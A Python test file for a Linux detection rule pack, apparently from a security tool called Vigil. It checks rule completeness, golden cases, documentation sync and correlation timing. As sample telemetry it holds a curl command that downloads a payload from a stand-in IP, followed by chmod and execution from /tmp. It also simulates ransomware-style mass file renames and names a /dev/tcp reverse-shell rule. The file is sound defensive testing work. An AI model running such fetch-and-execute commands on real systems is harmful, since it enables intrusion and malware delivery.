"""Vigil's own Linux rule pack (issue 16): every rule loads, names its ATT&CK technique, level and false positives,
has a positive and a negative golden case, the correlations fire on the sequence they describe, and the table in
docs/linux-detection.md is the one the rule files give."""

from __future__ import annotations

import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from vigil.content import ruledoc
from vigil.detect import load_rules
from vigil.detect.correlation import CorrelationEngine
from vigil.detect.ruleset import RuleSet
from vigil.detect.testing import golden_files, run_golden

PACK = ruledoc.pack_dir()
DOC = Path(__file__).resolve().parents[3] / "docs" / "linux-detection.md"
LEVELS = {"informational", "low", "medium", "high", "critical"}


def _docs() -> list[tuple[Path, dict[str, Any]]]:
    return [(p, yaml.safe_load(p.read_text())) for p in sorted(PACK.glob("*.yml"))]


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    report = load_rules([PACK])
    assert not report.errors, report.errors
    return report.ruleset


def test_pack_is_large_and_every_rule_is_complete(ruleset: RuleSet) -> None:
    docs = _docs()
    assert len(docs) >= 50
    ids = [d["id"] for _, d in docs]
    assert len(set(ids)) == len(ids)
    for path, d in docs:
        uuid.UUID(d["id"])
        assert any(t.startswith("attack.t") for t in d["tags"]), f"{path.name}: no ATT&CK technique tag"
        assert d["level"] in LEVELS, path.name
        assert d["falsepositives"], f"{path.name}: no false-positive note"
        assert d["logsource"]["product"] == "linux" if "logsource" in d else "correlation" in d
    assert len(ruleset) + len(ruleset.correlations) == len(docs)


def test_every_rule_has_a_positive_and_a_negative_golden_case(ruleset: RuleSet) -> None:
    cases = [c for f in golden_files([PACK]) for c in json.loads(f.read_text())["cases"]]
    results = run_golden(ruleset, golden_files([PACK]))
    assert [r.name for r in results if not r.passed] == []
    correlation_ids = {c.info.id for c in ruleset.correlations}
    for _, d in _docs():
        if d["id"] in correlation_ids:
            continue
        assert any(d["id"] in c["expect"] for c in cases), f"{d['title']}: no case raises it"
        assert any(c.get("rule") == d["id"] and d["id"] not in c["expect"] for c in cases), \
            f"{d['title']}: no negative case"


def _proc(cmd: str, image: str, at: datetime, pid: int = 4242) -> dict[str, Any]:
    return {"Timestamp": at.isoformat(), "DeviceId": "dev-1", "DeviceName": "web01", "ActionType": "ProcessCreated",
            "FolderPath": image, "FileName": image.rsplit("/", 1)[-1], "ProcessCommandLine": cmd, "ProcessId": pid}


def _correlate(ruleset: RuleSet, rows: list[tuple[str, dict[str, Any]]]) -> list[str]:
    engine = CorrelationEngine(ruleset.correlations)
    fired = []
    for table, row in rows:
        for h in ruleset.match_telemetry(table, row):
            if engine.wants(h.rule_id):
                for c in engine.observe(h.rule_id, row, datetime.fromisoformat(row["Timestamp"])):
                    fired.append(c.correlation.info.title)
    return fired


def test_download_chmod_run_is_one_correlated_alert_only_in_that_order(ruleset: RuleSet) -> None:
    t = datetime(2026, 12, 7, 10, 0, tzinfo=UTC)
    steps = [
        _proc("curl -s -o /tmp/x/payload http://203.0.113.7/p", "/usr/bin/curl", t),
        _proc("chmod +x /tmp/x/payload", "/usr/bin/chmod", t + timedelta(seconds=2)),
        _proc("/tmp/x/payload", "/tmp/x/payload", t + timedelta(seconds=3)),
    ]
    title = "Downloaded, Made Executable and Run From a Temporary Folder"
    assert _correlate(ruleset, [("DeviceProcessEvents", r) for r in steps]) == [title]
    backwards = [dict(r, Timestamp=(t + timedelta(seconds=i)).isoformat()) for i, r in enumerate(reversed(steps))]
    assert _correlate(ruleset, [("DeviceProcessEvents", r) for r in backwards]) == []
    late = [steps[0], dict(steps[1], Timestamp=(t + timedelta(minutes=11)).isoformat()),
            dict(steps[2], Timestamp=(t + timedelta(minutes=12)).isoformat())]
    assert _correlate(ruleset, [("DeviceProcessEvents", r) for r in late]) == []


def test_mass_renames_to_a_ransomware_extension_need_ten_within_a_minute(ruleset: RuleSet) -> None:
    t = datetime(2026, 12, 7, 10, 0, tzinfo=UTC)

    def rename(i: int, pid: int) -> tuple[str, dict[str, Any]]:
        return "DeviceFileEvents", {
            "Timestamp": (t + timedelta(seconds=i)).isoformat(), "DeviceId": "dev-1", "ActionType": "FileRenamed",
            "FolderPath": f"/srv/d/{i}.doc.locked", "PreviousFolderPath": f"/srv/d/{i}.doc",
            "InitiatingProcessFolderPath": "/usr/bin/mv", "InitiatingProcessId": pid}

    title = "Many Files Renamed to a Ransomware Extension"
    assert _correlate(ruleset, [rename(i, 7) for i in range(10)]) == [title]
    assert _correlate(ruleset, [rename(i, 7 + i) for i in range(10)]) == [title]  # a shell loop: a process a file
    assert _correlate(ruleset, [rename(i, 7) for i in range(9)]) == []
    assert _correlate(ruleset, [rename(i * 7, 7) for i in range(10)]) == []  # 63 s from the first to the last


def test_the_docs_table_is_generated_from_the_rule_files() -> None:
    text = DOC.read_text()
    assert ruledoc.BEGIN in text, "docs/linux-detection.md has no generated rule table"
    assert ruledoc.spliced(text, ruledoc.table()) == text, \
        "docs/linux-detection.md is stale: run python -m vigil.content.ruledoc --write docs/linux-detection.md"
    assert ruledoc.main(["--check", str(DOC)]) == 0
    for _, d in _docs():
        assert d["title"] in text


def test_splicing_replaces_only_the_marked_block(tmp_path: Path) -> None:
    doc = tmp_path / "d.md"
    doc.write_text(f"# x\n\nbefore\n{ruledoc.BEGIN}\nSTALE-TABLE\n{ruledoc.END}\nafter\n")
    assert ruledoc.main(["--check", str(doc)]) == 1
    assert ruledoc.main(["--write", str(doc)]) == 0
    text = doc.read_text()
    assert text.startswith("# x\n\nbefore\n") and text.endswith(f"{ruledoc.END}\nafter\n") and "STALE-TABLE" not in text
    assert "| **Reverse Shell Through /dev/tcp** (`proc_reverse_shell_dev_tcp.yml`) | T1059.004, T1095 | high |" in text
    assert ruledoc.main(["--check", str(doc)]) == 0


def test_a_discovery_burst_is_six_different_programs_from_one_parent_within_a_minute(ruleset: RuleSet) -> None:
    t = datetime(2026, 12, 7, 10, 0, tzinfo=UTC)
    tools = ["/usr/bin/id", "/usr/bin/whoami", "/usr/bin/uname", "/usr/bin/hostname", "/usr/bin/ps", "/usr/bin/ip"]

    def run(i: int, image: str, parent: int = 900) -> tuple[str, dict[str, Any]]:
        return "DeviceProcessEvents", dict(_proc(image.rsplit("/", 1)[-1], image, t + timedelta(seconds=i)),
                                           InitiatingProcessId=parent)

    title = "Burst of Discovery Commands From One Shell"
    assert _correlate(ruleset, [run(i, x) for i, x in enumerate(tools)]) == [title]
    assert _correlate(ruleset, [run(i, tools[0]) for i in range(10)]) == []  # one program, many times
    assert _correlate(ruleset, [run(i, x, parent=900 + i) for i, x in enumerate(tools)]) == []  # six shells
    assert _correlate(ruleset, [run(i * 13, x) for i, x in enumerate(tools)]) == []  # over 65 s
